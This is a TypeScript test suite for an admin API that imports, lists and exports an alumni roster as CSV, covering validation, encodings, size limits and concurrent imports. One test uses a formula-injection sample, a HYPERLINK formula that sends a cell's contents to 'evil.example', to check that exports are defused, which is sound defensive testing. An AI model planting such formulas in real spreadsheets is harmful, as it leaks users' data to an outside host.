import { sql } from 'drizzle-orm';
import { beforeAll, describe, expect, it } from 'vitest';
import { rosterEntries } from '../../db/schema/index';
import { makeAdmin, signUp } from '../../test/accounts';
import { importRoster } from '../../test/joining';
import { multipartFile } from '../../test/pictures';
import { useTestApp } from '../../test/test-app';

const rosterCount = async (db: ReturnType<typeof useTestApp>['db']) =>
  (await db.execute<{ n: number }>(sql`select count(*)::int as n from ${rosterEntries}`)).rows[0]
    ?.n;

// POST /api/admin/roster/import, GET /api/admin/roster(/export) (issue 35).
describe('joining: the roster import', () => {
  const ctx = useTestApp();
  let admin: Awaited<ReturnType<typeof signUp>>;

  beforeAll(async () => {
    admin = await signUp(ctx.app);
    await makeAdmin(ctx.db, admin.id);
  });

  const sheet = [
    'Name, E-mail ,Mobile No.,Batch,Course,City,Country,Notes',
    'राहुल शर्मा,rahul@example.org,98250 12345,1998,B.Com,Pune,IN,first',
    'જયેશ પટેલ,jayesh@example.org,+44 7911 123456,2004,B.Tech CSE,Leicester,United Kingdom,',
    'Zoë Ó Briain,zoe@example,,2011,,Dublin,IE,bad email',
    'Li Wei,li.wei@example.org,+65 8123 4567,3000,,Singapore,SG,bad batch',
    'Kabir D’Souza,kabir@example.org,,2001,,Mumbai,Narnia,unknown country',
    'Meera Iyer,,,2005,,Pune,IN,no contact',
    'Rahul Again,RAHUL@example.org,,1999,,,,repeats row 2',
    'Omar Sheikh,omar@example.org,+971 50 123 4567,2015,MBA,Dubai,uae,',
  ].join('\r\n');

  it('checks a dry run row by row and writes nothing', async () => {
    const response = await importRoster(ctx.app, admin.auth, sheet, true);
    expect(response.statusCode, response.body).toBe(200);
    expect(response.json()).toEqual({
      rows: 8,
      imported: 3,
      updated: 0,
      errors: [
        { row: 4, field: 'email', message: 'Please enter a valid email address' },
        { row: 5, field: 'batch', message: expect.stringMatching(/^Enter a graduation year/) },
        { row: 6, field: 'country', message: expect.stringMatching(/^Unknown country/) },
        { row: 7, field: 'contact', message: 'Give an email or a mobile number' },
      ],
      duplicates: [{ row: 8, match: 'email' }],
    });
    expect(await rosterCount(ctx.db)).toBe(0);
    // The reader's language: the same dry run in Hindi.
    const hindi = await ctx.app.inject({
      method: 'POST',
      url: '/api/admin/roster/import?dryRun=true',
      headers: { ...admin.auth, ...form(sheet).headers, 'accept-language': 'hi' },
      payload: form(sheet).payload,
    });
    expect(hindi.json().errors[3].message).toBe('ईमेल या मोबाइल नंबर दें');
  });

  it('imports the valid rows, and a second run of the same file changes nothing', async () => {
    const first = await importRoster(ctx.app, admin.auth, sheet);
    expect(first.json()).toMatchObject({ rows: 8, imported: 3, updated: 0 });
    const rows = await ctx.db.select().from(rosterEntries).orderBy(rosterEntries.batch);
    expect(rows.map((row) => [row.name, row.email, row.mobile, row.batch, row.country])).toEqual([
      ['राहुल शर्मा', 'rahul@example.org', '+919825012345', 1998, 'IN'],
      ['જયેશ પટેલ', 'jayesh@example.org', '+447911123456', 2004, 'GB'],
      ['Omar Sheikh', 'omar@example.org', '+971501234567', 2015, 'AE'],
    ]);
    const again = await importRoster(ctx.app, admin.auth, sheet);
    expect(again.json()).toMatchObject({ rows: 8, imported: 0, updated: 0 });
    expect(await rosterCount(ctx.db)).toBe(3);
  });

  it('updates an entry a later sheet changes, matched by email or mobile', async () => {
    const later = [
      'name;mobile;email;batch;city',
      'Omar Sheikh;+971 50 123 4567;;2016;Abu Dhabi',
      'राहुल शर्मा;;rahul@example.org;;Mumbai',
    ].join('\n');
    const response = await importRoster(ctx.app, admin.auth, later);
    expect(response.json()).toMatchObject({ rows: 2, imported: 0, updated: 2, errors: [] });
    const omar = (await ctx.db.select().from(rosterEntries)).find(
      (r) => r.mobile === '+971501234567',
    );
    // A blank cell keeps what the entry had: his email and course stay.
    expect(omar).toMatchObject({
      batch: 2016,
      city: 'Abu Dhabi',
      email: 'omar@example.org',
      course: 'MBA',
    });
  });

  it('reads a UTF-8 file with a BOM, semicolons and a quoted line break', async () => {
    const text =
      '\uFEFFName;Email;Mobile;Batch;City\n' +
      'Omar Sheikh Jr;omar.jr@example.org;;2020;"Dubai; Marina\nTower ""B"""\n' +
      "Anne-Marie O'Brien;annemarie@example.org;+44 7400 123456;2019;London\n" +
      ';;;;\n' +
      'Priya;priya@;;2019;Pune\n';
    const response = await importRoster(ctx.app, admin.auth, text, true);
    expect(response.json()).toMatchObject({
      rows: 3,
      imported: 2,
      // The quoted line break keeps the row numbers as a spreadsheet shows them; the blank row
      // (row 4) is skipped, not renumbered.
      errors: [{ row: 5, field: 'email' }],
    });
    await importRoster(ctx.app, admin.auth, text);
    const [omar] = await ctx.db
      .select()
      .from(rosterEntries)
      .where(sql`${rosterEntries.email} = 'omar.jr@example.org'`);
    expect(omar).toMatchObject({ name: 'Omar Sheikh Jr', city: 'Dubai; Marina\nTower "B"' });
  });

  it.each([
    [
      'not UTF-8 (Latin-1)',
      Buffer.from('name,email\nZo\xeb,zoe@example.org\n', 'latin1'),
      'roster_encoding',
    ],
    ['UTF-16', Buffer.from('\ufeffname,email\n', 'utf16le'), 'roster_encoding'],
    ['a workbook', Buffer.from([0x50, 0x4b, 0x03, 0x04, 0x14, 0, 6, 0]), 'roster_not_csv'],
    ['a binary file', Buffer.from([1, 2, 0, 4, 5, 0, 200, 201]), 'roster_not_csv'],
    [
      'text without the header',
      Buffer.from('Rahul,rahul@example.org\nJayesh,j@example.org\n'),
      'roster_no_header',
    ],
    ['a header alone', Buffer.from('name,email,mobile\n'), 'roster_empty'],
    ['an unclosed quote', Buffer.from('name,email\n"Rahul,rahul@example.org\n'), 'roster_not_csv'],
  ])('refuses %s with a 400 and a clear message', async (_what, content, code) => {
    const response = await importRoster(ctx.app, admin.auth, content);
    expect(response.statusCode).toBe(400);
    expect(response.json().error).toBe(code);
    expect(response.json().fields.file).toMatch(/^\S+ \S+ \S+ \S+/);
  });

  it('refuses 50 MB with a 413 and a clear message, reading none of it', async () => {
    const big = Buffer.alloc(50 * 1024 * 1024, 'a,b@example.org\n');
    const before = await rosterCount(ctx.db);
    const response = await importRoster(ctx.app, admin.auth, big);
    expect(response.statusCode).toBe(413);
    expect(response.json().message).toBe('The file is larger than 10 MB.');
    expect(await rosterCount(ctx.db)).toBe(before);
  });

  it('refuses a request without a file', async () => {
    const response = await ctx.app.inject({
      method: 'POST',
      url: '/api/admin/roster/import',
      headers: { ...admin.auth, 'content-type': 'application/json' },
      payload: {},
    });
    expect(response.statusCode).toBe(400);
  });

  it('stores a formula as text and exports it defused, with a BOM for Excel', async () => {
    const formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
    const text = `name,email,course,city\nEve Formula,eve@example.org,"${formula.replaceAll('"', '""')}",@SUM(1+1)\n`;
    expect((await importRoster(ctx.app, admin.auth, text)).json()).toMatchObject({ imported: 1 });
    const [eve] = await ctx.db
      .select()
      .from(rosterEntries)
      .where(sql`${rosterEntries.email} = 'eve@example.org'`);
    expect(eve).toMatchObject({ course: formula, city: '@SUM(1+1)' });

    const exported = await ctx.app.inject({ url: '/api/admin/roster/export', headers: admin.auth });
    expect(exported.statusCode).toBe(200);
    expect(exported.headers['content-type']).toMatch(/^text\/csv/);
    expect(exported.body.startsWith('\uFEFFname,email,mobile,batch')).toBe(true);
    const line = exported.body.split('\r\n').find((row) => row.startsWith('Eve Formula'));
    expect(line).toBe(
      `Eve Formula,eve@example.org,,,"'${formula.replaceAll('"', '""')}",'@SUM(1+1),,no,`,
    );
    // Every cell a spreadsheet would run starts with the apostrophe, phones included.
    expect(exported.body).toContain(",'+919825012345,");
    // And the export imports back as it was: the apostrophes are read off.
    const back = await importRoster(ctx.app, admin.auth, exported.rawPayload);
    expect(back.json()).toMatchObject({ imported: 0, updated: 0, errors: [] });
  });

  it('answers two imports of one new sheet at once without a 5xx or a second copy', async () => {
    const text = [
      'name,email',
      ...Array.from(
        { length: 50 },
        (_, i) =>
          `Race ${'abcdefghij'[i % 10]}${'abcdefghij'[Math.floor(i / 10)]},race.${i}@example.org`,
      ),
    ].join('\n');
    const before = await rosterCount(ctx.db);
    const answers = await Promise.all([
      importRoster(ctx.app, admin.auth, text),
      importRoster(ctx.app, admin.auth, text),
    ]);
    for (const answer of answers) expect([200, 409], answer.body).toContain(answer.statusCode);
    expect(answers.some((answer) => answer.statusCode === 200)).toBe(true);
    expect(await rosterCount(ctx.db)).toBe((before ?? 0) + 50);
  });

  it('lists the roster a page at a time, filtered, with who has an account', async () => {
    const all = await ctx.app.inject({ url: '/api/admin/roster', headers: admin.auth });
    expect(all.statusCode).toBe(200);
    const next = await ctx.app.inject({
      url: `/api/admin/roster?cursor=${all.json().nextCursor}`,
      headers: admin.auth,
    });
    expect(next.json().nextCursor).toBeNull();
    const names = [...all.json().items, ...next.json().items].map(
      (item: { name: string }) => item.name,
    );
    expect(all.json().items).toHaveLength(50);
    expect(new Set(names).size).toBe(names.length);
    expect(all.json().total).toBe(names.length);
    expect(all.json().total).toBe(await rosterCount(ctx.db));
    const batch = await ctx.app.inject({
      url: '/api/admin/roster?batch=2004',
      headers: admin.auth,
    });
    expect(batch.json().items).toEqual([
      expect.objectContaining({ name: 'જયેશ પટેલ', hasAccount: false, invitedAt: null }),
    ]);
    const byQuery = await ctx.app.inject({
      url: `/api/admin/roster?q=${encodeURIComponent('शर्मा')}`,
      headers: admin.auth,
    });
    expect(byQuery.json().items.map((item: { email: string }) => item.email)).toEqual([
      'rahul@example.org',
    ]);
    const bad = await ctx.app.inject({ url: '/api/admin/roster?cursor=zzz', headers: admin.auth });
    expect(bad.statusCode).toBe(400);
  });
});

function form(text: string) {
  return multipartFile(Buffer.from(text), 'roster.csv', 'text/csv', 'file');
}
